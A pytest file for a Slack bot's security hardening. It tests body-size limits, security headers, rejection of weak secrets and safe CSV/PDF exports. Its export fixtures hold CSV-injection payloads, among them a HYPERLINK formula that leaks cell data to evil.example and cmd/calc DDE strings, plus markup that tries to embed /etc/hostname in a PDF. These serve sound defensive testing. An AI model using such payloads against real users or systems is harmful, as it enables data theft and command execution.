"""Hardening against the findings of a security review: body limits before any parsing, headers,
secrets refused when empty, signed outgoing webhooks, exports that neither run formulas nor
interpret markup."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from sqlalchemy import Engine

from bot.settings import Settings
from bot.slack.local import LocalSlack

MB = 1 << 20


@pytest.fixture
def slack(engine: Engine, tmp_path: Path) -> Iterator[LocalSlack]:
    settings = Settings(home=tmp_path / "var", database_url=engine.url.render_as_string(hide_password=False),
                        public_url="https://briefwerk.example")
    with LocalSlack(settings) as local:
        yield local


def streamed(size: int) -> Iterator[bytes]:
    """A body without Content-Length, as a client streaming it chunk by chunk sends it."""
    chunk = b"x" * (64 << 10)
    for _ in range(size // len(chunk)):
        yield chunk


@pytest.mark.parametrize(("path", "limit"), [("/slack/events", 2 * MB), ("/webhooks/pingen", MB), ("/portal/sign-in", 16 << 10)])
def test_bodies_over_the_limit_are_refused_before_any_route_reads_them(slack: LocalSlack, path: str, limit: int) -> None:
    with httpx.Client(base_url=slack.url, timeout=30) as client:
        declared = client.post(path, content=b"x" * (limit + 1), headers={"Content-Type": "application/json"})
        assert declared.status_code == 413
        undeclared = client.post(path, content=streamed(8 * MB), headers={"Content-Type": "application/json"})
        assert undeclared.status_code == 413
    assert [c.method for c in slack.standin.calls] == ["auth.test"]  # only the start-up check: nothing reached a listener


def test_a_declared_length_over_the_limit_is_refused_without_reading_a_byte(slack: LocalSlack) -> None:
    import socket

    host, port = slack.url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=5) as raw:
        raw.sendall(b"POST /slack/events HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                    b"Content-Length: 314572800\r\n\r\n")  # 300 MiB announced, none sent
        assert raw.recv(200).startswith(b"HTTP/1.1 413")


def test_small_bodies_still_reach_their_routes(slack: LocalSlack) -> None:
    unsigned = httpx.post(f"{slack.url}/slack/events", content=b"{}", headers={"Content-Type": "application/json"})
    assert unsigned.status_code == 401  # the signature check saw the body
    assert httpx.post(f"{slack.url}/webhooks/pingen", content=b"{}").status_code == 404  # Pingen is not set up


def test_every_answer_carries_hsts_and_nosniff_when_the_public_address_is_https(slack: LocalSlack) -> None:
    for path in ("/healthz", "/portal/", "/links/" + "x" * 43):
        headers = httpx.get(f"{slack.url}{path}").headers
        assert headers["strict-transport-security"] == "max-age=31536000; includeSubDomains", path
        assert headers["x-content-type-options"] == "nosniff", path


@pytest.mark.parametrize("variable", ["SLACK_SIGNING_SECRET", "BRIEFWERK_PINGEN__WEBHOOK_SECRET",
                                      "BRIEFWERK_PORTAL_WEBHOOK_SECRET", "SLACK_CLIENT_SECRET"])
@pytest.mark.parametrize("value", ["", "   ", "changeme", "placeholder", "..."])
def test_empty_or_placeholder_secrets_are_named(variable: str, value: str) -> None:
    environment = {"SLACK_SIGNING_SECRET": "0123456789abcdef0123456789abcdef", "SLACK_BOT_TOKEN": "xoxb-1-2-3",
                   "BRIEFWERK_PINGEN__CLIENT_ID": "id", "BRIEFWERK_PINGEN__CLIENT_SECRET": "pingen-client-secret",
                   "BRIEFWERK_PINGEN__ORGANISATION_ID": "org", "BRIEFWERK_PINGEN__WEBHOOK_SECRET": "whsec-pingen-0815",
                   "BRIEFWERK_PORTAL_WEBHOOK_URL": "https://portal.example/hook",
                   "BRIEFWERK_PORTAL_WEBHOOK_SECRET": "whsec-portal-0815",
                   "SLACK_CLIENT_ID": "1.2", "SLACK_CLIENT_SECRET": "slack-client-secret-0815"}
    with pytest.MonkeyPatch.context() as patch:
        for name, given in {**environment, variable: value}.items():
            patch.setenv(name, given)
        assert Settings(_env_file=None).weak_secrets() == [variable]
        patch.setenv(variable, "a-real-secret-4711")
        assert Settings(_env_file=None).weak_secrets() == []


def test_the_stand_ins_published_secrets_only_work_against_the_stand_in() -> None:
    from bot.slack.local import SECRET_KEY, SIGNING_SECRET

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SLACK_SIGNING_SECRET", SIGNING_SECRET)
        patch.setenv("BRIEFWERK_SECRET_KEY", SECRET_KEY)
        assert Settings(_env_file=None).weak_secrets() == ["SLACK_SIGNING_SECRET", "BRIEFWERK_SECRET_KEY"]
        patch.setenv("BRIEFWERK_SLACK_API_URL", "http://127.0.0.1:4711/api/")
        assert Settings(_env_file=None).weak_secrets() == []


def test_a_company_portal_without_a_secret_is_named() -> None:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("BRIEFWERK_PORTAL_WEBHOOK_URL", "https://portal.example/hook")
        patch.delenv("BRIEFWERK_PORTAL_WEBHOOK_SECRET", raising=False)
        assert Settings(_env_file=None).weak_secrets() == ["BRIEFWERK_PORTAL_WEBHOOK_SECRET"]


def test_an_empty_pingen_secret_verifies_nothing() -> None:
    import hashlib
    import hmac

    from bot.providers.pingen.client import WebhookSignatureInvalid, verify_signature

    body = b'{"data": []}'
    signed_with_nothing = hmac.new(b"", body, hashlib.sha256).hexdigest()
    with pytest.raises(WebhookSignatureInvalid):
        verify_signature(body, signed_with_nothing, "")


# --- exports -------------------------------------------------------------------------------------

# From OWASP's CSV-injection page and its examples of markup reaching a PDF generator.
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Klick")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!E2",
                 "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HOSTILE_MARKUP = ['Abrechnung <a href="http://evil.example">hier</a>', "<img src=\"/etc/hostname\" width=\"50\" height=\"50\"/>",
                  "WE <01> & <b>fett", "<font size=\"40\">riesig</font>", "kaputt <para"]


def hostile_evidence():
    from datetime import UTC, datetime

    from domain.services.evidence import Evidence, Happening, LetterEvidence

    now = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
    letters = [LetterEvidence(reference=f"BW1-{n}", recipient=name, address=f"{name}, Lindenstraße 1, 10115 Berlin",
                              units=HOSTILE_MARKUP[n % len(HOSTILE_MARKUP)], pages=2, sheets=1, cover_sheet=False,
                              sha256="ab" * 32, options="duplex=True", ordered_by=name, ordered_at=now, provider="outbox",
                              provider_ref=HOSTILE_MARKUP[(n + 1) % len(HOSTILE_MARKUP)], state="submitted",
                              events=[Happening(now, "shipment_submitted", name, name)])
               for n, name in enumerate(HOSTILE_NAMES + HOSTILE_MARKUP)]
    timeline = [Happening(now, "attachment_added", name, f"file={name}") for name in HOSTILE_MARKUP + HOSTILE_NAMES]
    return Evidence(organisation=HOSTILE_MARKUP[0], serial_id=1, title=HOSTILE_MARKUP[1], property_name=HOSTILE_MARKUP[2],
                    state="submitted", created_at=now, timeline=timeline, letters=letters)


def test_no_csv_cell_starts_a_formula() -> None:
    import csv
    import io

    from domain.services.evidence import evidence_csv

    rows = list(csv.reader(io.StringIO(evidence_csv(hostile_evidence()).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{HOSTILE_NAMES[0]}" in cells and f"'{HOSTILE_NAMES[4]}" in cells  # kept, only neutralised


def test_markup_in_names_stays_text_in_the_pdf() -> None:
    import io

    import pikepdf
    from pypdf import PdfReader

    from domain.services.evidence import evidence_pdf

    data = evidence_pdf(hostile_evidence())
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    folded = " ".join(text.split())
    for shown in ('<a href="http://evil.example">hier</a>', "<img src=", "WE <01> & <b>fett", "kaputt <para"):
        assert shown in folded, shown
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert all("/Annots" not in page.obj for page in pdf.pages)  # no link was made
        images = [image for page in pdf.pages for image in page.get_images()]
        assert images == []  # no file from the server was embedded
